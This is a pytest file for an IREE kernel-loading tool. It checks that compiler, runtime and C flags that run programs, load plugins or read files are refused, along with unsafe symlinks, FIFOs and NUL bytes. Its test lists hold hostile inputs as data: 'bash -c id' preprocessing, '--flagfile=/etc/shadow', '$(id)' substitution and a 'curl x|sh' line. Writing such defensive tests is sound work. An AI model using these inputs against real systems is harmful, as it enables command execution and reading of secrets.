"""A kernel's flags are data, not commands (iree/flag_safety.py), and its directory holds regular
files only (kernel/kernels.py): each refused at load in one line naming the file and the key."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from iree_matrix.iree import flag_safety
from iree_matrix.kernel import kernels

# A kernel's files are taken only from folders others may enter (core/system/shared_files.py).
pytestmark = pytest.mark.shared_tmp

NEGABS = Path(__file__).parents[1] / "data" / "kernels" / "negabs"


@pytest.mark.parametrize(
    "flag",
    [
        '--iree-hal-preprocess-executables-with=bash -c "id"',
        "--iree-hal-preprocess-executables-with=sh",
        "--iree-load-plugin=/tmp/x.so",
        "--iree-hal-substitute-executable-object=a=b.o",
        "--iree-hal-dump-executable-files-to=/tmp",
        "--iree-hal-executable-object-search-path=/root",
        "--iree-preprocessing-transform-spec-filename=spec.mlir",
        "--iree-codegen-transform-dialect-library=lib.mlir",
        "--iree-llvmcpu-embedded-linker-path=/bin/sh",
        "--iree-preprocessing-pass-pipeline=builtin.module(iree-preprocessing-transform-interpreter{transform-spec-path=x})",
        "--mlir-print-ir-after-all",
        "-o",
    ],
)
def test_compile_flags_that_run_or_read_are_refused(flag: str) -> None:
    assert flag_safety.compile_flag_problem(flag) is not None


@pytest.mark.parametrize(
    "flag",
    [
        "--iree-preprocessing-pass-pipeline=builtin.module(util.func(iree-preprocessing-convert-conv-to-channels-last))",
        "--iree-llvmcpu-fail-on-large-vector=false",
        "--iree-opt-data-tiling",
    ],
)
def test_compile_flags_of_the_shipped_kernels_pass(flag: str) -> None:
    assert flag_safety.compile_flag_problem(flag) is None


@pytest.mark.parametrize(
    "flag", ["--executable_plugin=embedded:/tmp/x.so", "--flagfile=/etc/shadow", "--trace_file=x",
             "--task_topology_file=/x", "--parameters=a=/x.irpa", "--task_worker_stack_size=$(id)"],
)  # fmt: skip
def test_run_flags_are_the_task_systems_only(flag: str) -> None:
    assert flag_safety.run_flag_problem(flag) is not None
    assert flag_safety.run_flag_problem("--task_worker_stack_size=196608") is None


@pytest.mark.parametrize(
    "flag",
    ["-include/root/x", "--include=/root/x", "--include-directory=/root", "-imacros", "@/root/args",
     "-I/root", "-I../other", "-Isub/../..", "-isystem/usr/include", "--sysroot=/", "-B/tmp",
     "-fplugin=/x.so", "-fpass-plugin=/x.so", "-specs=/x", "-Xclang", "-mllvm", "-Wl,-T,/x",
     "-fprofile-use=/x", "-march=x", "-target", "-o", "-c", "-fembed-dir=/root"],
)  # fmt: skip
def test_cflags_that_read_files_or_change_the_target_are_refused(flag: str) -> None:
    assert flag_safety.c_flag_problem(flag) is not None


@pytest.mark.parametrize(
    "flag", ["-std=c11", "-O3", "-DBLOCK=16", "-ffast-math", "-fno-math-errno", "-mavx2", "-Wall", "-Isub",
             "-fvisibility=protected", "-g"],
)  # fmt: skip
def test_ordinary_cflags_pass(flag: str) -> None:
    assert flag_safety.c_flag_problem(flag) is None


def _negabs(tmp_path: Path, extra: str = "") -> Path:
    kernel = tmp_path / "negabs"
    shutil.copytree(NEGABS, kernel)
    if extra:
        with (kernel / kernels.KERNEL_FILE).open("a") as f:
            f.write(extra)
    return kernel


def test_the_loader_names_the_file_and_key_of_a_flag_that_runs_a_program(tmp_path: Path) -> None:
    kernel = _negabs(tmp_path, "requires_flags = ['--iree-hal-preprocess-executables-with=bash -c id']\n")
    with pytest.raises(kernels.KernelError) as refused:
        kernels.load(kernel)
    said = str(refused.value)
    assert str(kernel / kernels.KERNEL_FILE) in said and "requires_flags" in said and "\n" not in said


def test_a_symbolic_link_to_a_private_file_and_a_fifo_are_refused_by_path(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("token")
    secret.chmod(0o600)
    kernel = _negabs(tmp_path)
    (kernel / "evil.h").symlink_to(secret)
    refused = r"evil.h \(a link to .*secret\) \(mode 600\) is not readable"
    with pytest.raises(kernels.KernelError, match=refused):
        kernels.load(kernel)
    (kernel / "evil.h").unlink()
    os.mkfifo(kernel / "pipe")
    with pytest.raises(kernels.KernelError, match="pipe: not a regular file"):
        kernels.load(kernel)
    (kernel / "pipe").unlink()
    (kernel / "public.h").symlink_to(kernel / "negabs.c")  # a file every user may read: followed
    assert kernels.load(kernel).name == "negabs"


def test_a_kernel_directory_over_16_mib_is_refused(tmp_path: Path) -> None:
    kernel = _negabs(tmp_path)
    with (kernel / "big.bin").open("wb") as f:
        f.truncate(17 << 20)
    with pytest.raises(kernels.KernelError, match="at most 16 MiB"):
        kernels.load(kernel)


def test_a_long_value_is_cut_in_the_loaders_line(tmp_path: Path) -> None:
    kernel = _negabs(tmp_path, f"requires_flags = ['--iree-{'x' * 20000}=/bin/sh']\n")
    with pytest.raises(kernels.KernelError) as refused:
        kernels.load(kernel)
    assert len(str(refused.value)) < 600 and "…" in str(refused.value)


def test_show_commands_warns_of_a_received_command_that_runs_a_program() -> None:
    from iree_matrix.stages import by_hand

    argv = ["iree-compile", "m.mlir", "--iree-hal-preprocess-executables-with=bash -c 'curl x|sh'", "-o", "m"]
    (warning,) = [n for n in by_hand.elsewhere([argv]) if n.startswith("WARNING")]
    assert "--iree-hal-preprocess-executables-with=bash" in warning and "runs or loads a program" in warning
    assert not [n for n in by_hand.elsewhere([["iree-compile", "m.mlir", "-o", "m"]]) if "WARNING" in n]


REPO = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "flag",
    ["--iree-llvmcpu-link-embedded=false", "--iree-llvmcpu-link-static",
     "--iree-hal-target-backends=vulkan-spirv", "--iree-hal-target-device=local",
     "--iree-llvmcpu-target-triple=x86_64-linux-gnu", "--iree-vm-target-index-bits=32",
     "--iree-llvmcpu-debug-symbols=true", "--iree-llvmcpu-target-cpu-features=+avx2 -o x",
     "--iree-llvmcpu-stack-allocation-limit=1e9", "--iree-opt-data-tiling=yes"],
)  # fmt: skip
def test_compile_flags_outside_the_allow_list_of_meanings_are_refused(flag: str) -> None:
    """A deny-list let `--iree-llvmcpu-link-embedded=false` through (issue 94): the system linker, and a
    run stored as a damaged environment. Linking, loading, outputs and the target are the tool's."""
    why = flag_safety.compile_flag_problem(flag)
    assert why is not None and "\n" not in why


@pytest.mark.parametrize(
    "flag",
    ["--iree-llvmcpu-target-cpu-features=+avx2,+fma", "--iree-llvmcpu-target-cpu=znver4",
     "--iree-llvmcpu-target-vector-width-in-bytes=32", "--iree-llvmcpu-loop-unrolling=false",
     "--iree-llvmcpu-slp-vectorization", "--iree-llvmcpu-stack-allocation-limit=65536"],
)  # fmt: skip
def test_compile_flags_of_the_allowed_meanings_pass(flag: str) -> None:
    assert flag_safety.compile_flag_problem(flag) is None


def test_every_shipped_kernel_loads_with_its_flags() -> None:
    shipped = sorted(p.parent for p in (REPO / "kernels").glob(f"*/{kernels.KERNEL_FILE}"))
    assert len(shipped) >= 4
    for directory in shipped:
        assert kernels.load(directory).name


@pytest.mark.parametrize(
    "flag", ["-fxray-attr-list=secret", "-fprofile-sample-use=x", "-fsanitize-coverage-allowlist=x", "-flto",
             "-fuse-ld=lld", "-fmodule-map-file=x", "-fembed-bitcode", "-fsave-optimization-record"],
)  # fmt: skip
def test_cflags_of_f_are_an_allow_list_too(flag: str) -> None:
    assert flag_safety.c_flag_problem(flag) is not None


@pytest.mark.parametrize("key", ["requires_flags", "cflags", "run_flags", "models"])
def test_a_nul_byte_in_a_kernel_toml_string_is_refused_at_load_in_one_line(tmp_path: Path, key: str) -> None:
    """It passed the flag checks and ended as `internal: ValueError: embedded null byte` (issue 94)."""
    values = {"requires_flags": "--iree-opt-data-tiling", "cflags": "-O3", "run_flags": "--task_x=1"}
    value = values.get(key, "m")
    kernel = _negabs(tmp_path, f'{key} = ["{value}\\u0000-x"]\n')
    with pytest.raises(kernels.KernelError) as refused:
        kernels.load(kernel)
    said = str(refused.value)
    assert f"{key} = " in said and "NUL byte" in said and "\n" not in said and "\0" not in said


@pytest.mark.parametrize("stage, error_class", [("compile", "kernel-rejected"), ("run", "kernel-crash")])
def test_a_fault_after_a_kernels_accepted_flags_is_the_kernels(stage: str, error_class: str) -> None:
    """A run with a kernel said `undefined symbol: negabs_workgroup` and was stored as `environment-fault:
    the environment … is damaged`, advising to delete it, though its files were whole (issue 94)."""
    from iree_matrix.core.errors import EnvironmentFault
    from iree_matrix.kernel.stages import kernel_build, kernel_seam
    from iree_matrix.matrix import plan

    def job(kernel: str) -> plan.Job:
        labels = {"kernel": kernel} if kernel else {}
        return plan.Job(stage, f"m/{stage}", (), labels, kernel_build.environment("3.11"))

    cause = "iree-run-module: /tmp/x.so: undefined symbol: negabs_workgroup"
    whole = EnvironmentFault("the environment py3.11 is damaged (…)", cause, whole=True)
    owned = kernel_seam.owned_fault(job("negabs"), whole)
    assert not isinstance(owned, EnvironmentFault) and owned.error_class == error_class
    assert "kernel 'negabs'" in owned.message and "undefined symbol: negabs_workgroup" in owned.message
    assert kernel_seam.owned_fault(job(""), whole) is whole  # no kernel: the environment's
    damaged = EnvironmentFault("the environment py3.11 is damaged (a file missing): it is rebuilt", "x")
    assert kernel_seam.owned_fault(job("negabs"), damaged) is damaged  # its files found broken


def _generated(tmp_path: Path, replaces: str, function: str = "negabs_workgroup", args: str = "") -> Path:
    """negabs with a spec the tool writes: `replaces`, `function` (and `args`) instead of its spec."""
    kernel = _negabs(tmp_path)
    toml = kernel / kernels.KERNEL_FILE
    lines = [ln for ln in toml.read_text().splitlines() if not ln.startswith(("spec", "replaces"))]
    extra = [f"replaces = {{ module = {replaces} }}", f'function = "{function}"']
    extra += [f"args = {args}"] if args else []
    toml.write_text("\n".join([*extra, *lines, ""]))
    return kernel


@pytest.mark.parametrize(
    "replaces, function, args, said",
    [
        (f'["{"a" * 400_000}"]', "f", "", "(400,"),
        ("[" + ", ".join(['"a.b"'] * 5000) + "]", "f", "", "at most 256 module paths"),
        ('["a\\nb"]', "f", "", "no space, tab or line break"),
        ('["a"]', "f" * 5000, "", "(5,002 characters)"),
        ('["a"]', "f", '["input:0", "99999999999"]', "args = '99999999999': out of range"),
    ],
    ids=["a 400,000-character glob", "5,000 globs", "a newline", "a 5,000-character function", "args"],
)
def test_a_generated_specs_long_or_odd_values_are_one_short_line(
    tmp_path: Path, replaces: str, function: str, args: str, said: str
) -> None:
    """A 400,000-character glob was stored whole, a newline in one was "not a non-empty string", and an
    out-of-range `args` entry was MLIR's "integer constant out of range" (issue 94)."""
    with pytest.raises(kernels.KernelError) as refused:
        kernels.load(_generated(tmp_path, replaces, function, args))
    line = str(refused.value)
    assert said in line and "\n" not in line and len(line) < 300 + len(str(tmp_path)) + 40, line
